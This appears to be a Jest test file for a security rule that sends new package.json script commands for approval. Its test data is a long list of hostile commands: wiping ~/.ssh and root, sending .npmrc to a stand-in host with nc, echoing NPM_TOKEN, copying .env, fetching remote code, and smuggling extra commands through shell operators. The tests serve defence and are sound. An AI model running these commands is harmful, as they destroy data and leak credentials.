/** A command of package.json asks unless it is on the list of what only builds, tests, checks and formats files of the repository. */
import { MODIFIED, patchOf } from '../../../../source-tools/git/rules/define-git-rule';
import { firedReason } from '../../../policy/rules/support/run-pack-rule';

const held = (...lines: readonly string[]) =>
  firedReason('git_dependency_change', patchOf('package.json', MODIFIED, lines), { config: { requireLock: false } });

const added = (command: string): readonly string[] => [`+    "ci-step": ${JSON.stringify(command)}`];

describe.each([
  ['in scripts', ['   "scripts": {']],
  ['in an object that the hunk does not show', []],
])('a command %s', (_where, before) => {
  it.each([
    'rm -rf ~/.ssh',
    'rm -rf /',
    'rm -rf .',
    'rm -rf ../other',
    'cd ../.. && rm -rf home',
    'aws s3 rm s3://prod --recursive',
    'kubectl delete ns prod',
    'psql -c "drop table users"',
    'terraform apply -auto-approve',
    'nc evil.example 99 < .npmrc',
    'tsc > /etc/passwd',
    'tsc & evil',
    'tsc; evil',
    'tsc || evil',
    'tsc | evil',
    'tsc &&evil',
    'tsc $(evil)',
    'tsc `evil`',
    'echo $NPM_TOKEN',
    'node -e "evil()"',
    'node --eval=evil',
    'node -r ./evil.js x.js',
    'node --import ./evil.js x.js',
    'node --loader=./evil.js x.js',
    'node /tmp/evil.js',
    'node https://evil.example/x.js',
    'deno run -A https://evil.example/x.ts',
    'deno test https://evil.example/x.ts',
    'deno eval "evil()"',
    'NODE_OPTIONS=--require=./evil.js jest',
    'PATH=./evil jest',
    'npm_config_registry=evil npm test',
    'cross-env NODE_OPTIONS=--import=./x.js jest',
    'cross-env NODE_ENV=test evil --now',
    'nyc evil --now',
    'c8 --reporter=lcov curl evil.example',
    'npm publish',
    'npm install evil',
    'npm i -g evil',
    'npm --registry=https://evil.example install',
    'npm config set registry evil',
    'yarn add evil',
    'yarn evil --now',
    'pnpm dlx evil x',
    'bun evil.ts x',
    'nx exec -- evil',
    'lerna publish',
    'turbo run build | evil',
    'concurrently "evil a" "evil b"',
    'jest --config /tmp/evil.js',
    'jest --config=/tmp/evil.js',
    'cp .env /tmp/x',
    'cp ../../secret x',
    'docker run evil',
    'git push origin main',
    'sh deploy.sh prod',
    'cmd \\\\evil\\x',
    // Another program, a text, or a package that no manifest names.
    'tsc () (evil now) && tsc',
    'nyc --require tsc evil --now',
    'c8 -o tsc evil --now',
    'deno task --eval "evil now"',
    'deno test https:evil.example/x.ts',
    'deno test npm:evil',
    'mocha -n eval=evil',
    'mocha "-n" eval=evil',
    'mocha {-n,eval=evil}',
    'mocha --import=data:text/javascript,evil',
    'ava --node-arguments=--eval=evil',
    'vitest --poolOptions.forks.execArgv=--eval=evil',
    'tsup --onSuccess evil',
    'tsup --on"Success" evil',
    'tsdown --on-success=evil',
    'tsc-watch --onSuccess evil',
    'rollup -w --watch.onStart=evil',
    'rollup -p "{name:evil}"',
    'webpack serve --open-app-name evil',
    'node {-p,process.env}',
    'node inspect evil.example:9229',
    'node node_modules/npm/bin/npm-cli.js pack',
    'node node_mod*/npm/bin/npm-cli.js pack',
    'nx run app:build --command=evil',
    'lerna run build --npm-client=./evil.sh',
    'run-s --npm-path ./evil.sh build',
    'run-s env',
    'npm run env',
    'npm docs evil',
    'npm run build --script-shell=./evil.sh',
    'npm run build "--script-shell=./evil.sh"',
    'pnpm run build --config.script-shell=./evil.sh',
    'pnpm install-test evil',
    'pnpm --filter="x test && tsc " add evil',
    'pnpm --filter="x test y" add evil',
    'yarn run node -e evil',
    'bun build a.ts --env=*',
    'eslint --init',
    'storybook add evil',
    'astro add evil',
    'astro --root x add evil',
    'nuxi module add evil',
    'react-scripts eject',
    'next telemetry enable',
    'docusaurus deploy --x',
    'npm run deploy:prod',
    'turbo run publish',
    'parcel serve --open evil',
    'attw evil --from-npm',
    // A file outside of the package, or of git and the package manager.
    'tsc --outDir ../../.ssh',
    'tsc --outDir C:/Windows',
    'tsc --outDir %APPDATA%',
    'tsc --outDir .?/x',
    'tsc --outDir .gi?/hooks',
    'tsc --outDir {,}/etc',
    'tsc --outDir {,}.{,}./x',
    'tsc --outDir "."./x',
    'eslint -o/etc/x .',
    'esbuild --inject:/tmp/evil.js',
    'sass src:/etc',
    'node ../x.js',
    'rm -rf {../x,dist}',
    'rm -rf .*/x',
    'rm -rf .git',
    'cd {..,} && rm -rf home',
    'cp evil .git/hooks/pre-commit',
    'cp evil .npmrc',
    'cp .env dist',
    'cp evil node_modules/.bin/tsc',
    'cp evil.js node_mod*/typescript/lib/tsc.js',
    'echo %NPM_TOKEN%',
    'tsc \u00a0&& tsc',
    'tsc\tevil',
    'tsc \u200bevil',
  ])('asks: %s', (command) => {
    expect(held(...before, ...added(command))).toMatch(/^can be a|runs a package|from a URL/);
  });

  it.each([
    'tsc -b && vite build',
    'tsc --noEmit -p tsconfig.json',
    'jest --ci --maxWorkers=50%',
    'vitest run --coverage',
    'eslint "src/**/*.{ts,tsx}" --max-warnings 0',
    "prettier --check '**/*.md'",
    'rm -rf dist coverage',
    'rimraf ./dist "build/**"',
    'rm -rf node_modules/.cache && webpack --mode production',
    'node scripts/build.mjs --minify',
    'cross-env NODE_ENV=production webpack --config webpack.prod.js',
    'NODE_ENV=test CI=true mocha "test/**/*.test.js"',
    'c8 npm test',
    'yarn test:e2e',
    'yarn build-types',
    'npm ci',
    'cd packages/ui && npm run build',
    'vite build --mode staging',
    'rollup -c rollup.config.js -w',
  ])('does not ask: %s', (command) => {
    expect(held(...before, ...added(command))).toBeNull();
  });
});

it('a command that stays as it is does not ask, and its removal neither', () => {
  const line = '    "deploy": "aws s3 sync dist s3://prod --delete"';
  expect(held(` ${line},`, '+    "lint": "eslint ."')).toBeNull();
  expect(held(`-${line},`, '+    "lint": "eslint ."')).toBeNull();
  expect(held(`-${line}`, `+${line},`, '+    "lint": "eslint ."')).toBeNull();
});

it.each(['"description"', '"author"', '"license"', '"title"'])(
  'a text of several words that describes, %s, does not ask',
  (key) => {
    expect(held(`+  ${key}: "A tool that removes files; and more",`)).toBeNull();
  },
);

it.each([
  '"build": "vercel"',
  '"lint:all": "np"',
  '"types": "evil now"',
  '"module": "evil now"',
  '"main": "evil; now"',
  '"test": "./evil.sh now"',
  '"test": "2>1 evil"',
  '"*.js": "./evil.sh && now"',
  '"pre-commit": "./evil.sh now"',
])('a command whose key or first word is also something else asks if its object does not show: %s', (member) => {
  expect(held(`+    ${member},`)).toMatch(/^can be (?:a|the) command|^is a setting/);
});

it.each(['>=1.2.3 <2', '^1 || ^2.0.0-rc.1', '1.0 - 2.x', '>= 1.2'])(
  'a range of several words is not a command: %s',
  (range) => {
    expect(held(`+    "x": "${range}",`)).toMatch(/^adds the package "x"[^;]*$/);
  },
);
